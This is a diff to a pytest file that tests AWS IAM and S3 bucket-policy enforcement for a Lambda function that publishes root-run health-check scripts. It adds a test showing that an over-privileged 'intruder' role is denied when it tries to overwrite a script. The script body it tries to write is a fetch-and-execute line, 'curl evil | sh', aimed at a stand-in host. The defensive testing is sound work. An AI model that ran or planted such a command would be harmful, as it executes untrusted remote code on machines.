@@ -5,6 +5,8 @@ of a role created from the function's resolved policies in the SAM-translated te
 bucket and the topic are encrypted with a customer KMS key, as the template deploys them. Then
 each statement of each role is removed in turn: the handler must fail with a denial, or say in
 what it sends that something was denied, and every denial must be of the removed statement's actions.
+Every enforced call also meets the template's bucket policy (its denials, enforced by the stand-in),
+resolved with the ARN of the role each run creates for the publisher.
 """
 
 from __future__ import annotations
@@ -85,6 +87,28 @@ class Deployed:
     stack: Stack
     key_arn: str
     serial: Iterator[int] = field(default_factory=itertools.count)
+    policy: dict[str, Any] = field(default_factory=dict)
+    """The bucket policy in force (set by `bucket_policy`)."""
+
+    def bucket_policy(self, publisher_role_arn: str, operator_role_arn: str = "") -> dict[str, Any]:
+        """The template's LogBucketPolicy, resolved for this bucket and these roles, in force from now."""
+        deployment = Deployment(
+            resources={
+                "LogBucket": {"Ref": BUCKET, "Arn": f"arn:aws:s3:::{BUCKET}"},
+                "PublishScriptsFunctionRole": {"Arn": publisher_role_arn},
+            },
+            region=REGION,
+            account=ACCOUNT,
+            parameters={"ScriptsOperatorRoleArn": operator_role_arn},
+        )
+        template = translated_template()
+        policy = resolve(
+            template["Resources"]["LogBucketPolicy"]["Properties"]["PolicyDocument"], template, deployment
+        )
+        assert isinstance(policy, dict)
+        self.policy.clear()
+        self.policy.update(policy)
+        return policy
 
     def roles(self, window_id: str = "mw-0123456789abcdef0") -> dict[str, FunctionRole]:
         deployment = Deployment(
@@ -134,17 +158,20 @@ def deployed(stack: Stack) -> Deployed:
     stack.sns.set_topic_attributes(
         TopicArn=stack.topic_arn, AttributeName="KmsMasterKeyId", AttributeValue=key_arn
     )
-    return Deployed(stack, key_arn)
+    deployed = Deployed(stack, key_arn)
+    deployed.bucket_policy(f"arn:aws:iam::{ACCOUNT}:role/PublishScriptsFunctionRole")
+    return deployed
 
 
 @contextmanager
-def enforced_as(credentials: RoleCredentials) -> Iterator[Enforcement]:
-    """IAM enforced, and this process's boto3 clients signing as the role (as Lambda would)."""
+def enforced_as(credentials: RoleCredentials, bucket_policy: dict[str, Any]) -> Iterator[Enforcement]:
+    """IAM enforced (with the bucket's policy), and this process's boto3 clients signing as the role
+    (as Lambda would)."""
     with pytest.MonkeyPatch.context() as env:
         for name, value in credentials.environment().items():
             env.setenv(name, value)
         env.setattr(boto3, "DEFAULT_SESSION", None)  # a new default session reads the role's keys
-        with enforced() as enforcement:
+        with enforced(bucket_policies={BUCKET: bucket_policy}) as enforcement:
             yield enforcement
 
 
@@ -169,7 +196,7 @@ class Run:
 
 def _run(deployed: Deployed, credentials: RoleCredentials, call: Callable[[], object]) -> Run:
     error: BaseException | None = None
-    with enforced_as(credentials) as enforcement:
+    with enforced_as(credentials, deployed.policy) as enforcement:
         try:
             call()
         except Exception as raised:  # what the handler raised is what is checked
@@ -198,13 +225,22 @@ def run_window_function(deployed: Deployed, remove: str = "") -> Run:
     return _run(deployed, credentials, lambda: app.handler(event, FakeContext()))
 
 
-def run_publisher(deployed: Deployed, credentials: RoleCredentials, url: str, *request_types: str) -> Run:
+def run_publisher(
+    deployed: Deployed,
+    credentials: RoleCredentials,
+    url: str,
+    *request_types: str,
+    declared: dict[str, str] | None = None,
+    operator_role_arn: str = "",
+) -> Run:
     """The custom resource on the stack's bucket, for each request type in turn; `sent` is what it
-    answered CloudFormation."""
+    answered CloudFormation. The bucket policy names this run's publisher role."""
     app = load_function("publish_scripts")
+    deployed.bucket_policy(credentials.role_arn, operator_role_arn)
     events = [publisher._event(t, url, PhysicalResourceId=f"s3://{BUCKET}/scripts/") for t in request_types]
     for event in events:
         event["ResourceProperties"]["Bucket"] = BUCKET
+        event["ResourceProperties"].update(declared or {})
     run = _run(deployed, credentials, lambda: [app.handler(event, publisher._Context()) for event in events])
     run.sent = json.dumps(publisher._Capture.bodies)
     return run
@@ -250,28 +286,92 @@ def test_the_window_function_reports_under_its_own_role(deployed: Deployed) -> N
     assert ("kms:GenerateDataKey", "kms-via-sns") in {(d.action, d.via) for d in run.enforcement.decisions}
 
 
+def writer_role(deployed: Deployed, name: str) -> RoleCredentials:
+    """A role that may write anything in the bucket through its own identity policy."""
+    inline = {
+        "WriteAnything": {
+            "Version": "2012-10-17",
+            "Statement": [
+                {"Effect": "Allow", "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{BUCKET}/*"},
+                {"Effect": "Allow", "Action": "kms:GenerateDataKey", "Resource": deployed.key_arn},
+            ],
+        }
+    }
+    credentials, _ = deploy_role(boto3.client, name=f"{name}-{next(deployed.serial)}", inline=inline)
+    return credentials
+
+
+def put_as(
+    deployed: Deployed, credentials: RoleCredentials, key: str, body: bytes
+) -> tuple[Enforcement, ClientError | None]:
+    with enforced_as(credentials, deployed.policy) as enforcement:
+        try:
+            boto3.client("s3").put_object(Bucket=BUCKET, Key=key, Body=body)
+        except ClientError as error:
+            return enforcement, error
+    return enforcement, None
+
+
 def test_the_publisher_creates_then_updates_under_its_own_role(deployed: Deployed, response_url: str) -> None:
     credentials = deployed.role("PublishScriptsFunction")
+    operator = writer_role(deployed, "ScriptsOperator")
 
-    created = run_publisher(deployed, credentials, response_url, "Create")
-    deployed.stack.s3.put_object(
-        Bucket=BUCKET, Key="scripts/healthcheck.sh", Body=b"#!/bin/bash\necho ours\n"
+    created = run_publisher(
+        deployed, credentials, response_url, "Create", operator_role_arn=operator.role_arn
     )
-    updated = run_publisher(deployed, credentials, response_url, "Update")
+    _, refused = put_as(deployed, operator, "scripts/healthcheck.sh", publisher.OPERATOR_SCRIPT)
+    updated = run_publisher(
+        deployed,
+        credentials,
+        response_url,
+        "Update",
+        declared={"LinuxScriptSha256": publisher.OPERATOR_SHA},
+        operator_role_arn=operator.role_arn,
+    )
 
+    assert refused is None, "the operator role named in the stack may replace a script"
     assert (created.error, updated.error) == (None, None)
     assert created.enforcement.denied == updated.enforcement.denied == []
     first, second = publisher._Capture.bodies
-    assert (first["Status"], first["Data"]) == (
+    assert (first["Status"], first["Data"]["LinuxAction"], first["Data"]["WindowsAction"]) == (
         "SUCCESS",
-        {"healthcheck.ps1": "put", "healthcheck.sh": "put"},
+        "put",
+        "put",
     )
     assert (second["Status"], second["Data"]) == (
         "SUCCESS",
-        {"healthcheck.ps1": "unchanged", "healthcheck.sh": "kept-operator-copy"},
+        {
+            "LinuxSha256": publisher.OPERATOR_SHA,
+            "WindowsSha256": publisher.WINDOWS_SHA,
+            "LinuxAction": "operator-script",
+            "WindowsAction": "unchanged",
+        },
     )
     stored = deployed.stack.s3.head_object(Bucket=BUCKET, Key="scripts/healthcheck.ps1")
     assert stored["SSEKMSKeyId"] == deployed.key_arn
+
+
+def test_the_bucket_policy_denies_script_writes_to_everyone_but_the_publisher_and_the_operator(
+    deployed: Deployed,
+) -> None:
+    # A role whose own policy allows s3:PutObject on the whole bucket (an instance role with too
+    # much, an administrator) still cannot replace what runs as root on every instance.
+    intruder = writer_role(deployed, "Intruder")
+    deployed.bucket_policy(f"arn:aws:iam::{ACCOUNT}:role/PublishScriptsFunctionRole-x")
+
+    enforcement, error = put_as(
+        deployed, intruder, "scripts/healthcheck.sh", b"#!/bin/bash\ncurl evil | sh\n"
+    )
+    _, elsewhere = put_as(deployed, intruder, "reports/anything.json", b"{}")
+
+    assert error is not None
+    assert error.response["Error"]["Code"] == "AccessDenied"
+    assert "explicit deny in a resource-based policy" in error.response["Error"]["Message"]
+    (decision,) = enforcement.denied
+    assert decision.statement == "bucket-policy:OnlyThePublisherWritesTheScripts"
+    assert elsewhere is None, "the deny covers the scripts prefix only"
+    with pytest.raises(ClientError, match="NoSuchKey"):
+        deployed.stack.s3.get_object(Bucket=BUCKET, Key="scripts/healthcheck.sh")
 
 
 # ---------------------------------------------------------------- every statement is needed
